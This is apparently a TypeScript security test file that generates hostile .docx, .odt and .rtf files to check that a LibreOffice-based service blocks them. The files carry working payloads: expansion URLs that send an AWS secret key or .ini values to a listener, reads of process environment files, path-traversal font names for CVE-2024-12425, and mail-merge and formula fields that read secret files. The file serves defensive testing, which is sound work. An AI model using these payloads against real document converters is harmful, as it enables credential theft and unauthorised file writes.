/** Documents that make LibreOffice tell of its surroundings, or write where they say. */
import PizZip from "pizzip";
import type { Attack } from "#test/security/attack/attack.ts";
import { stopped } from "#test/security/attack/make-documents.ts";
import type { Target } from "#test/security/attack/target.ts";
import { field, paragraph, run } from "#test/support/docx-blocks.ts";
import { docx } from "#test/support/docx-package.ts";
import { HOSTILE_DOCUMENTS } from "#test/support/hostile-documents.ts";
import { odt, rtf } from "#test/support/office-files.ts";
import { tinyFont } from "#test/support/tiny-font.ts";

/** LibreOffice's own addresses whose variables it fills in: from its environment, and from any .ini file. */
const EXPANDED: Readonly<Record<string, (target: Target) => string>> = {
  "a variable of the environment, sent to an address": ({ listener }) =>
    `vnd.sun.star.expand:${listener.address("/$AWS_SECRET_ACCESS_KEY.png")}`,
  "an .ini file's value, sent to an address": ({ listener, canaryFolder }) =>
    `vnd.sun.star.expand:${listener.address(`/\${file://${canaryFolder}/secret.ini:Bootstrap:Secret}.png`)}`,
  "an .ini file's value, by a path": ({ canaryFolder }) =>
    `vnd.sun.star.expand:\${${canaryFolder}/secret.ini:Bootstrap:Secret}`,
  "a file by a variable": ({ canaryFolder }) => `vnd.sun.star.expand:$ORIGIN/../../../..${canaryFolder}/secret.png`,
  "the environment of the process": () => "file:///proc/self/environ",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: braces of another language.
  "the environment of the service": () => "vnd.sun.star.expand:${file:///proc/1/environ::AWS_SECRET_ACCESS_KEY}",
};

/** Those that fetch with LibreOffice's own settings. */
const READING = ["a linked picture", "a background", "a form's data", "a section of another file", "a picture field"];

/** Fields that print what the machine is, of whom, and where. */
const WORD_FIELDS = [
  "FILENAME \\p",
  "TEMPLATE \\p",
  "USERNAME",
  "USERADDRESS",
  "USERINITIALS",
  "AUTHOR",
  "LASTSAVEDBY",
  "INFO FILENAME",
];
const RTF_FIELDS = WORD_FIELDS.map((code) => `{\\field{\\*\\fldinst ${code.replace("\\", "\\\\")}}{\\fldrslt x}}`);
const ODF_FIELDS =
  '<text:file-name text:display="full">x</text:file-name><text:file-name text:display="path">x</text:file-name><text:template-name text:display="full">x</text:template-name><text:author-name>x</text:author-name><text:sender-firstname>x</text:sender-firstname><text:initial-creator>x</text:initial-creator><text:printed-by>x</text:printed-by>';

/** Font names by which a writer of temporary fonts would leave its folder (CVE-2024-12425). */
function fontName({ watchedFolder }: Target): string {
  return `../../../../../../../../../..${watchedFolder}/evil`;
}

function docxWithFont(target: Target): Uint8Array {
  const key = "{00000000-0000-0000-0000-000000000000}";
  const relation = (id: string, kind: string, to: string) =>
    `<Relationship Id="${id}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${kind}" Target="${to}"/>`;
  const relations = (inner: string) =>
    `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${inner}</Relationships>`;
  return docx({
    body: paragraph([run("Dear [Name]", `<w:rFonts w:ascii="${fontName(target)}"/>`)]),
    parts: {
      "word/_rels/document.xml.rels": relations(relation("rId1", "fontTable", "fontTable.xml")),
      "word/_rels/fontTable.xml.rels": relations(relation("rId1", "font", "fonts/evil.odttf")),
      "word/fontTable.xml": `<w:fonts xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:font w:name="${fontName(target)}"><w:embedRegular r:id="rId1" w:fontKey="${key}"/></w:font></w:fonts>`,
      "word/fonts/evil.odttf": tinyFont(),
    },
  });
}

function odtWithFont(target: Target): Uint8Array {
  const faces = `<office:font-face-decls xmlns:svg="urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0"><style:font-face style:name="F" svg:font-family="${fontName(target)}"><svg:font-face-src><svg:font-face-uri xlink:href="Fonts/evil.ttf" xlink:type="simple"><svg:font-face-format svg:string="truetype"/></svg:font-face-uri></svg:font-face-src></style:font-face></office:font-face-decls>`;
  const zip = changedOdt((xml) => xml.replace("<office:automatic-styles>", `${faces}<office:automatic-styles>`));
  zip.file("Fonts/evil.ttf", tinyFont());
  return zip.generate({ type: "uint8array" });
}

function changedOdt(change: (xml: string) => string): PizZip {
  const zip = new PizZip(odt("Dear [Name]"));
  zip.file("content.xml", change(zip.file("content.xml")?.asText() ?? ""));
  return zip;
}

const atEnd = (body: string): Uint8Array =>
  changedOdt((xml) => xml.replace("</office:text>", `<text:p>${body}</text:p></office:text>`)).generate({
    type: "uint8array",
  });

/** A mail merge that reads its letters' data from a database, and a field that shows them. */
function withDatabase({ listener, canaryFolder }: Target): Uint8Array {
  return docx({
    body: paragraph([
      run("Dear [Name]"),
      field(`DATABASE \\d "${canaryFolder}/secret.txt" \\s "SELECT *"`, "x"),
      field("MERGEFIELD x", "x"),
    ]),
    parts: {
      "word/settings.xml": `<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:dataType w:val="textFile"/><w:connectString w:val="${listener.address("/db")}"/><w:query w:val="SELECT * FROM ${canaryFolder}/secret.txt"/><w:dataSource r:id="rId1"/></w:mailMerge></w:settings>`,
      "word/_rels/settings.xml.rels": `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/mailMergeSource" Target="${listener.address("/db.txt")}" TargetMode="External"/></Relationships>`,
    },
  });
}

type Make = (target: Target) => { readonly filename: string; readonly bytes: Uint8Array };

const OTHERS: Readonly<Record<string, Make>> = {
  "fields of a .docx that print paths and names": () => ({
    filename: "a.docx",
    bytes: docx(paragraph([run("Dear [Name]"), ...WORD_FIELDS.map((code) => field(code, "x"))])),
  }),
  "fields of an .rtf that print paths and names": () => ({
    filename: "a.rtf",
    bytes: rtf(`Dear [Name]${RTF_FIELDS.join("")}`),
  }),
  "fields of an .odt that print paths and names": () => ({ filename: "a.odt", bytes: atEnd(ODF_FIELDS) }),
  "a font of a .docx whose name is a path": (target) => ({ filename: "a.docx", bytes: docxWithFont(target) }),
  "a font of an .odt whose name is a path": (target) => ({ filename: "a.odt", bytes: odtWithFont(target) }),
  "a mail merge with a database": (target) => ({ filename: "a.docx", bytes: withDatabase(target) }),
  "a database field of an .odt": ({ canaryFolder }) => ({
    filename: "a.odt",
    bytes: atEnd(
      `<text:database-display text:database-name="file://${canaryFolder}/secret.txt" text:table-name="secret" text:column-name="a">x</text:database-display><text:database-next text:database-name="file://${canaryFolder}" text:table-name="secret"/>`,
    ),
  }),
  "a formula that reads another file": ({ canaryFolder }) => ({
    filename: "a.odt",
    bytes: atEnd(
      `<text:expression text:formula="ooow:'file://${canaryFolder}/secret.txt'#A1">x</text:expression><text:variable-get text:name="$AWS_SECRET_ACCESS_KEY">x</text:variable-get>`,
    ),
  }),
  "a link to itself under another name": ({ watchedFolder }) => ({
    filename: "a.odt",
    bytes: atEnd(
      `<text:a xlink:type="simple" xlink:href="file://${watchedFolder}/evil" office:target-frame-name="_self">x</text:a>`,
    ),
  }),
};

export const ENVIRONMENT_ATTACKS: readonly Attack[] = [
  ...Object.entries(EXPANDED).map(([name, address]) =>
    attack(name, async (target) => {
      const results: string[] = [];
      for (const { filename, what, bytes } of HOSTILE_DOCUMENTS) {
        if (!READING.includes(what)) continue;
        const escaped = address(target).replaceAll("&", "&amp;");
        results.push(await stopped(target, { filename, bytes: bytes(escaped) }, "made without it"));
      }
      return [...new Set(results)].join(", ");
    }),
  ),
  ...Object.entries(OTHERS).map(([name, make]) =>
    attack(name, (target) => stopped(target, make(target), "made without it")),
  ),
];

function attack(name: string, run: Attack["run"]): Attack {
  return {
    category: "environment and writing",
    name,
    tried: "to read the surroundings of LibreOffice, or write into them",
    run,
  };
}
